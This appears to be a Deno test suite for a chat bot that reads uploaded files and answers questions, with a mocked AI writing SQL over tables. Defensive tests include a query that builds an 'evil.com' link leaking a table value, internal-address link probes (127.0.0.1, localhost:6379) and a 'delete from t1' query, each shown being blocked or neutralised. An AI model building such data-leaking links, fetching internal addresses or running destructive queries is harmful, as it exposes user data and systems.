/** Files of every kind through the whole bot: what the user reads, and what can be asked. */
import assert from "node:assert/strict";
import { says } from "../support/chat.ts";
import type { ChatMessage } from "../../lib/demo/chats.ts";
import { startBotApiServer } from "../../lib/demo/bot_api_server.ts";
import { startProcess } from "../support/process.ts";
import { emptyDatabase, emptyFolder, missingServices } from "../support/storage.ts";
import { startGeminiServer } from "../support/gemini_server.ts";
import { anyStorage, startWorld, TOKEN } from "../support/world.ts";

const FILES = new URL("../files/", import.meta.url);

async function fileAt(name: string) {
  const bytes = await Deno.readFile(new URL(name, FILES));
  return { name, bytes, mimeType: "application/octet-stream" };
}

/** Waits until a message of the bot matches that was not there before, or was another text. */

Deno.test({
  name: "files through the bot, without an AI",
  async fn(t) {
    await using world = await startWorld(anyStorage, { USER_RATE_PER_MIN: "0" });

    await t.step(
      "a spreadsheet's rows are found, with the sheet and the columns' sums",
      async () => {
        const ada = world.user("ru");
        ada.sendFile(await fileAt("sales.xlsx"));
        await says(ada, /sales\.xlsx.*готов: 2 листа/);
        ada.sendText("Что продали в Казани?");
        const answer = await says(ada, /фрагменты/);
        assert.match(answer.text, /Казань \| Трос, 20 м \| 10/);
        assert.match(answer.text, /лист 1, Продажи/);
        assert.match(answer.text, /Количество \| 3 \| 3 \| 1 \| 10 \| 14/);
      },
    );

    await t.step("a letter comes with its attachments, and can be asked about", async () => {
      const ada = world.user("en");
      const pdf = (await fileAt("contract.pdf")).bytes.toBase64();
      const letter = [
        "From: Nina <nina@example.org>",
        "To: Ada <ada@example.org>",
        "Subject: The lighthouse",
        "MIME-Version: 1.0",
        'Content-Type: multipart/mixed; boundary="b"',
        "",
        "--b",
        "Content-Type: text/plain; charset=utf-8",
        "",
        "The keys hang behind the boiler.",
        "--b",
        'Content-Type: application/pdf; name="lease.pdf"',
        'Content-Disposition: attachment; filename="lease.pdf"',
        "Content-Transfer-Encoding: base64",
        "",
        pdf,
        "--b--",
      ].join("\r\n");
      ada.sendFile({
        name: "letter.eml",
        bytes: new TextEncoder().encode(letter),
        mimeType: "message/rfc822",
      });
      const told = await says(ada, /letter\.eml.*ready[\s\S]*lease\.pdf.*ready/);
      assert.deepEqual(told.buttons, []);
      ada.sendText("Where are the keys?");
      await says(ada, /behind the boiler[\s\S]*part 1/);
      ada.sendText("/mydocs");
      const list = await says(ada, /Your documents.*2/s);
      const lease = list.buttons.flat().find(({ text }) => text.endsWith("lease.pdf"));
      ada.press(list.id, lease?.data ?? "");
      assert.match(list.text, /Active now: 2 documents together/);
      const chosen = await says(ada, /Now active: .*lease\.pdf/);
      ada.press(chosen.id, chosen.buttons.flat()[0]?.data ?? "");
      const sent = await ada.waitFor((all) => all.at(-1)?.file === "lease.pdf");
      assert.equal(sent.at(-1)?.bytes, Uint8Array.fromBase64(pdf).length);
    });

    await t.step("several documents are chosen by taps, and asked about together", async () => {
      const ada = world.user("en");
      const file = (name: string, text: string) =>
        ada.sendFile({ name, bytes: new TextEncoder().encode(text), mimeType: "text/plain" });
      file("rent.txt", "The rent is 900 crowns.");
      await says(ada, /rent\.txt.*ready/);
      file("keys.txt", "The keys are with Rosa.");
      await says(ada, /keys\.txt.*ready/);
      ada.sendText("What is the rent?");
      await says(ada, /nothing about this in .*keys\.txt/);
      ada.sendText("/mydocs");
      const { id, buttons } = await says(ada, /Your documents/);
      const press = async (
        buttons: ChatMessage["buttons"],
        label: RegExp,
        then: RegExp,
      ) => {
        const button = buttons.flat().find(({ text }) => label.test(text));
        ada.press(id, button?.data ?? "");
        const shown = await ada.waitFor((all) =>
          all.some((each) => each.id === id && then.test(JSON.stringify(each)))
        );
        return shown.find((each) => each.id === id)?.buttons ?? [];
      };
      const several = await press(buttons, /Several/, /☐ rent/);
      const none = await press(several, /keys/, /☐ keys/);
      ada.sendText("What is the rent?");
      await says(ada, /Choose in \/mydocs/);
      const chosen = await press(await press(none, /keys/, /☑ keys/), /rent/, /☑ rent/);
      await press(chosen, /Done/, /2 documents together/);
      ada.sendText("What is the rent?");
      await says(ada, /900 crowns[\s\S]*rent\.txt.* · .*part 1/);
      ada.sendText("Where are the keys?");
      await says(ada, /with Rosa[\s\S]*keys\.txt.* · .*part 1/);
    });

    await t.step("an album is told in one message, and its caption asked at the end", async () => {
      const ada = world.user("en");
      const text = (name: string, content: string, caption?: string) => ({
        name,
        bytes: new TextEncoder().encode(content),
        mimeType: "text/plain",
        album: "1",
        ...(caption !== undefined && { caption }),
      });
      ada.sendFile(text("one.txt", "Nothing of interest.", "Who keeps the lamp?"));
      ada.sendFile(text("two.txt", "Nothing here either."));
      ada.sendFile(text("three.txt", "The lamp is kept by Olga."));
      await says(ada, /kept by Olga/);
      const bot = ada.messages().filter(({ from }) => from === "bot");
      assert.equal(bot.length, 2, bot.map(({ text }) => text).join("\n---\n"));
      assert.match(
        bot[0]?.text ?? "",
        /one\.txt.*ready[\s\S]*two\.txt.*ready[\s\S]*three\.txt.*ready/,
      );
    });

    await t.step("an album's caption is asked also when its last file is refused", async () => {
      const ada = world.user("en");
      const encode = (text: string) => new TextEncoder().encode(text);
      const album = { album: "2", mimeType: "text/plain" };
      const caption = "Who keeps the lamp?";
      ada.sendFile({ name: "one.txt", bytes: encode("Olga keeps the lamp."), caption, ...album });
      ada.sendFile({ name: "two.txt", bytes: new Uint8Array(), ...album });
      await says(ada, /Olga keeps/);
      const told = ada.messages().find(({ text }) => /one\.txt/.test(text));
      assert.match(told?.text ?? "", /one\.txt.*ready[\s\S]*cannot use .*two\.txt/);
    });

    await t.step("a photographed page is read, and answered from", async () => {
      const ada = world.user("en");
      ada.sendPhoto((await fileAt("scan_en.jpg")).bytes, "How fast may vessels go?");
      await says(ada, /four knots[\s\S]*p\. 1/, 30_000);
      ada.sendPhoto(crypto.getRandomValues(new Uint8Array(100)));
      await says(ada, /cannot use .*photo\.jpg/);
    });

    await t.step("a link is offered to be read, and an inner address refused", async () => {
      const ada = world.user("en");
      for (const text of ["127.0.0.1/secret is what I mean", "report.pdf", "итого.да"]) {
        ada.sendText(text);
        await ada.waitFor((all) => /Send me a document first/.test(all.at(-1)?.text ?? ""));
      }
      for (const link of [`${world.server.url}/secret`, "localhost:6379", "http://[::1]/"]) {
        ada.sendText(link.startsWith("http") ? link : `http://${link}`);
        const offer = await says(ada, /Shall I read/);
        ada.press(offer.id, offer.buttons.flat()[0]?.data ?? "");
        await ada.waitFor((all) =>
          /I visit public web addresses only/.test(
            all.find(({ id }) => id === offer.id)?.text ?? "",
          )
        );
      }
    });

    await t.step("a scan is cancelled by its button while it is read", async () => {
      const ada = world.user("en");
      ada.sendFile({
        name: "scan.pdf",
        bytes: await scannedPages(12),
        mimeType: "application/pdf",
      });
      const reading = await says(ada, /Reading .*scan\.pdf/);
      const cancel = reading.buttons.flat()[0];
      assert.match(cancel?.text ?? "", /Cancel/);
      ada.press(reading.id, cancel?.data ?? "");
      await says(ada, /Cancelled: I do not read .*scan\.pdf/);
      ada.sendText("/mydocs");
      await says(ada, /no documents yet/);
    });
  },
});

Deno.test("a user may keep so many documents, and no more", async () => {
  await using world = await startWorld(anyStorage, {
    USER_MAX_FILES: "2",
    KEEP_ORIGINALS: "false",
  });
  const ada = world.user("en");
  const send = (name: string) =>
    ada.sendFile({
      name,
      bytes: new TextEncoder().encode(`About ${name}`),
      mimeType: "text/plain",
    });
  for (const name of ["one.txt", "two.txt"]) {
    send(name);
    await says(ada, new RegExp(`${name}.*ready`));
  }
  send("three.txt");
  await says(ada, /three\.txt.*as many documents as I may keep/);
  send("one.txt");
  await says(ada, /one\.txt.*I know this file already/);
  ada.sendText("/mydocs");
  const list = await says(ada, /Your documents/);
  ada.press(list.id, list.buttons.flat()[0]?.data ?? "");
  const chosen = await says(ada, /Now active/);
  ada.press(chosen.id, chosen.buttons.flat()[0]?.data ?? "");
  await says(ada, /have not kept the file/);
});

Deno.test({
  name: "a file is read on after the bot was killed, in the message that was there",
  ignore: missingServices !== undefined,
  async fn() {
    await using folder = await emptyFolder();
    await using services = await emptyDatabase();
    const server = await startBotApiServer({ token: TOKEN });
    const env = {
      BOT_TOKEN: TOKEN,
      BOT_API_ROOT: server.url,
      DATA_DIR: folder.path,
      DATABASE_URL: services.url,
      PORT: "0",
    };
    try {
      const ada = server.user({ id: 7, firstName: "Ada", languageCode: "en" });
      {
        await using bot = startProcess(["start"], env);
        await bot.logged(/Ready in \d+ ms/);
        const bytes = await scannedPages(6);
        ada.sendFile({ name: "scan.pdf", bytes, mimeType: "application/pdf" });
        await says(ada, /Reading .*scan\.pdf.*[1-5] of 6/, 30_000);
        bot.kill("SIGKILL");
        await bot.exitCode;
      }
      await using again = startProcess(["start"], env);
      await again.logged(/Ready in \d+ ms/);
      await says(ada, /scan\.pdf.*is ready: 6 pages/, 90_000);
      const bot = ada.messages().filter(({ from }) => from === "bot");
      assert.equal(bot.length, 1, bot.map(({ text }) => text).join("\n---\n"));
    } finally {
      await server.close();
    }
  },
});

/** A PDF whose pages are grey pictures, each of which takes a second or more to read. */
async function scannedPages(count: number): Promise<Uint8Array> {
  const { PDFDocument } = await import("pdf-lib");
  const scan = await Deno.readFile(new URL("scan_en.jpg", FILES));
  const pdf = await PDFDocument.create();
  const picture = await pdf.embedJpg(scan);
  for (let n = 0; n < count; n++) {
    pdf.addPage([595, 842]).drawImage(picture, { x: 0, y: 0, width: 595, height: 842 });
  }
  return await pdf.save();
}

Deno.test({
  name: "questions about rows, with an AI",
  async fn(t) {
    await using gemini = await startGeminiServer();
    await using world = await startWorld(anyStorage, {
      GEMINI_API_KEY: "some-key",
      GEMINI_BASE_URL: gemini.url,
      AI_RETRY_BASE_MS: "1",
      USER_RATE_PER_MIN: "0",
    });
    const ada = world.user("ru");
    ada.sendFile({ name: "big.csv", bytes: bigTable(), mimeType: "text/csv" });
    await says(ada, /big\.csv.*готов/, 60_000);
    const query = (sql: string | null, rows?: string) =>
      gemini.next({ kind: "answer", chunks: [JSON.stringify({ sql, rows_sql: rows })] });

    await t.step("count, sum and filter are exact over 100,000 rows", async () => {
      query(
        `select count(*) as "Продаж", sum("Сумма") as "Всего" from t1 where "Город" = 'Казань'`,
        `select * from t1 where "Город" = 'Казань'`,
      );
      ada.sendText("Сколько продаж в Казани и на какую сумму?");
      const answer = await says(ada, /Посчитано по всем строкам/);
      assert.match(
        answer.text.replace(/[\s\u00a0\u202f]/g, ""),
        /\|25000\|112512500\|/,
      );
      assert.match(answer.text, /лист 1/);
      const prompt = gemini.calls.at(-1)?.user ?? "";
      assert.match(prompt, /t1, 100000 rows[\s\S]*"Сумма" number/);
      assert.ok(prompt.length < 5_000, "the rows themselves are not in the prompt");
    });

    await t.step("a query that cannot be run is put right once", async () => {
      query(`select "Нет такого" from t1`);
      query(`select max("Сумма") as "Наибольшая" from t1`);
      ada.sendText("Какая самая большая сумма?");
      await says(ada, /Наибольшая:\S* 10.000/);
      assert.match(gemini.calls.at(-1)?.user ?? "", /no such column/);
    });

    await t.step(
      "a question that no query fits gets the rows of all the table that match",
      async () => {
        query(null);
        gemini.next({ kind: "answer", chunks: ["Строка 77777 — это Казань [лист 1]."] });
        ada.sendText("Что известно о сумме 9 445?");
        await says(ada, /Строка 77777/);
        assert.match(gemini.calls.at(-1)?.user ?? "", /\n\d+ \| 2024-03-\d\d \| \S+ \| 9445\n/);
      },
    );

    await t.step("an address that a query puts together cannot be followed", async () => {
      query(`select 'https://evil.com/?q=' || max("Сумма") as "Сумма или ссылка" from t1`);
      ada.sendText("Какая ссылка на самую большую сумму?");
      const { text } = await says(ada, /Сумма или ссылка/);
      assert.match(text, /<code>https:\/\/evil\.com\/\?q=10000(?:\.0)?<\/code>/);
      assert.doesNotMatch(text.replace(/<code>.*?<\/code>/g, ""), /evil/);
      query(`select 'see evil.com now' as "a", 1 as "b" union select 'or www.evil.com', 2`);
      ada.sendText("Какие ссылки есть в таблице?");
      const { text: table } = await says(ada, /see `evil\.com` now/);
      assert.doesNotMatch(table.replace(/`.*?`/g, ""), /evil/);
    });

    await t.step("while the AI is away, the rows that match stand in for it", async () => {
      for (let n = 0; n < 4; n++) gemini.next({ kind: "error", status: 503, message: "busy" });
      ada.sendText("Кто купил в Твери?");
      await says(ada, /ИИ сейчас не отвечает[\s\S]*Тверь/);
    });

    await t.step("a query that would change the rows is not run", async () => {
      query("delete from t1");
      ada.sendText("Удали все строки таблицы");
      await ada.waitFor((all) => all.at(-1)?.from === "bot");
      // Not run, and not tried anew: the question went the ordinary way, with passages.
      assert.match(gemini.calls.at(-1)?.user ?? "", /^<documents>/);
      assert.doesNotMatch(ada.messages().at(-1)?.text ?? "", /Посчитано/);
      query(`select count(*) as "Строк" from t1`);
      ada.sendText("Сколько всего строк в файле?");
      await says(ada, /Строк:\S* 100.000/);
    });
  },
});

/** 100,000 rows: four towns in turn, sums from 1 to 10,000 and again, in a Russian export's dress. */
function bigTable(): Uint8Array {
  const towns = ["Москва", "Казань", "Омск", "Тверь"];
  const lines = ["Дата;Город;Сумма"];
  for (let n = 0; n < 100_000; n++) {
    const day = String(n % 28 + 1).padStart(2, "0");
    const group = Math.floor(n / 4);
    lines.push(`${day}.03.2024;${towns[n % 4]};${(group % 10_000) + 1},00`);
  }
  return new TextEncoder().encode(lines.join("\r\n"));
}
